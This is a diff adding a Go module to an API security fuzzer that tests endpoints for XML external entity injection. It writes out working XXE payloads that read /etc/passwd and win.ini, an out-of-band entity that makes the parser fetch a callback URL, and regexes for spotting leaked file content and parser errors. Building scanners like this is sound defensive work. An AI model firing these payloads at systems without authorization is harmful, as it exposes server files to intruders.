@@ -0,0 +1,165 @@
+package fuzzer
+
+import (
+	"encoding/xml"
+	"fmt"
+	"regexp"
+	"strings"
+	"time"
+)
+
+// xxePlaceholder marks the field whose value is replaced by an entity
+// reference after the body is rendered as XML
+const xxePlaceholder = "gofuzz-xxe-placeholder"
+
+// xxeFileProbe reads a local file through an external entity; the pattern
+// recognizes its content echoed in a response
+type xxeFileProbe struct {
+	path    string
+	content *regexp.Regexp
+}
+
+// xxeFileProbes name files present on most systems of each family
+var xxeFileProbes = []xxeFileProbe{
+	{"file:///etc/passwd", regexp.MustCompile(`root:[^:\n]*:0:0:`)},
+	{"file:///c:/windows/win.ini", regexp.MustCompile(`(?i)\[(fonts|extensions|mci extensions)\]`)},
+}
+
+// xxeErrorSignatures are parser errors showing that entities in the DTD were
+// processed, even when their value is not echoed
+var xxeErrorSignatures = regexp.MustCompile(`(?i)(failed to load external entity|I/O error : failed to load|java\.io\.FileNotFoundException|` +
+	`external entity|entity '[^']*' not defined|undefined entity|SAXParseException|org\.xml\.sax|XMLSyntaxError|System\.Xml\.XmlException)`)
+
+// xxeRefusal matches parsers that reject DTDs outright, which is the safe
+// configuration
+var xxeRefusal = regexp.MustCompile(`(?i)(DOCTYPE is disallowed|DTD is prohibited|DTDs? (are|is) not (allowed|supported))`)
+
+// testXXE sends XML bodies declaring external and internal entities to an
+// endpoint that takes XML, either by its declared Content-Type or because it
+// parsed XML in place of JSON. Local file contents or an expanded entity
+// echoed in the response are reported, as are parser errors showing entity
+// resolution. With a callback URL configured, blind probes that make the
+// parser fetch it are sent too; hits show up on the callback server only.
+func (f *APIFuzzer) testXXE(base map[string]interface{}) {
+	switch f.endpoint.Method {
+	case "POST", "PUT", "PATCH":
+	default:
+		return
+	}
+
+	contentType := f.endpoint.Headers["Content-Type"]
+	if !strings.Contains(contentType, "xml") {
+		contentType = "application/xml"
+		if !f.xmlTested {
+			f.xmlTested = true
+			if resp, respBody, ok := f.acceptedBody(base); ok {
+				f.xmlParsed = f.parsesEncoding(xmlBodyEncoding, base, resp, respBody) != nil
+			}
+		}
+		if !f.xmlParsed {
+			return
+		}
+	}
+
+	for _, probe := range xxeFileProbes {
+		dtd := fmt.Sprintf(`<!ENTITY xxe SYSTEM "%s">`, probe.path)
+		if f.sendXXE(base, contentType, "file", dtd, "&xxe;", func(body string) string {
+			if match := probe.content.FindString(body); match != "" {
+				return fmt.Sprintf("content of %s echoed: %q", probe.path, match)
+			}
+			return ""
+		}, SeverityCritical, ConfidenceCertain) {
+			return
+		}
+	}
+
+	canary := fmt.Sprintf("gfe%08x", f.rng.Uint32())
+	dtd := fmt.Sprintf(`<!ENTITY gfe "%s">`, canary)
+	f.sendXXE(base, contentType, "entity-expansion", dtd, "&gfe;", func(body string) string {
+		// A raw echo of the request holds the canary in the DTD and the reference
+		if strings.Contains(body, canary) && !strings.Contains(body, "gfe;") {
+			return fmt.Sprintf("internal entity expanded to %s; external entities may resolve too", canary)
+		}
+		return ""
+	}, SeverityMedium, ConfidenceFirm)
+
+	if f.config.CallbackURL == "" {
+		return
+	}
+	token := fmt.Sprintf("xxe-%08x", f.rng.Uint32())
+	callback := strings.TrimSuffix(f.config.CallbackURL, "/") + "/" + token
+	dtd = fmt.Sprintf(`<!ENTITY %% ext SYSTEM "%s"> %%ext;`, systemLiteral(callback))
+	f.sendXXE(base, contentType, "out-of-band", dtd, "", func(string) string { return "" }, SeverityHigh, ConfidenceTentative)
+	f.logger.Info("sent out-of-band XXE probe, check the callback server for requests", "token", token, "callback", callback)
+}
+
+// sendXXE sends the base body with dtd declared and reference in place of
+// its first string field. A response that detect describes, or one holding a
+// parser error about entities, is reported. It returns whether a finding
+// was reported.
+func (f *APIFuzzer) sendXXE(base map[string]interface{}, contentType, probe, dtd, reference string,
+	detect func(body string) string, severity Severity, confidence Confidence) bool {
+	body := xxeDocument(base, dtd, reference)
+	req, resp, respBody, err := f.exchangeAs(body, contentType)
+	if err != nil {
+		f.logger.Debug("XXE probe failed", "probe", probe, "error", err)
+		return false
+	}
+
+	text := string(respBody)
+	evidence := detect(text)
+	if evidence == "" {
+		if xxeRefusal.MatchString(text) {
+			return false
+		}
+		match := xxeErrorSignatures.FindString(text)
+		if match == "" {
+			return false
+		}
+		evidence = fmt.Sprintf("XML parser error about entities: %q", match)
+		severity, confidence = SeverityMedium, ConfidenceTentative
+	}
+
+	finding := &Finding{
+		Type:       "xxe",
+		Severity:   severity,
+		Confidence: confidence,
+		URL:        f.endpoint.URL,
+		Method:     f.endpoint.Method,
+		Parameter:  probe,
+		Payload:    string(body),
+		Evidence:   evidence,
+		Timestamp:  time.Now(),
+	}
+	captureExchange(finding, req, body, resp, respBody)
+	if !f.config.Findings.Add(finding) {
+		return false
+	}
+	f.logger.Warn("XXE", "probe", probe, "evidence", evidence)
+	return true
+}
+
+// xxeDocument renders the base body as XML with dtd in a DOCTYPE and
+// reference, if any, in place of the first string field's value
+func xxeDocument(base map[string]interface{}, dtd, reference string) []byte {
+	doc := copyMap(base)
+	field := "data"
+	for _, key := range sortedKeys(doc) {
+		if _, ok := doc[key].(string); ok {
+			field = key
+			break
+		}
+	}
+	doc[field] = xxePlaceholder
+
+	rendered, _ := xmlEncoding(doc)
+	text := strings.Replace(string(rendered), xxePlaceholder, reference, 1)
+	text = strings.Replace(text, xml.Header, xml.Header+"<!DOCTYPE request ["+dtd+"]>\n", 1)
+	return []byte(text)
+}
+
+// systemLiteral makes a URL safe to quote as a DTD system identifier, which
+// takes no escapes: the quote itself is percent-encoded
+func systemLiteral(rawURL string) string {
+	return strings.ReplaceAll(rawURL, `"`, "%22")
+}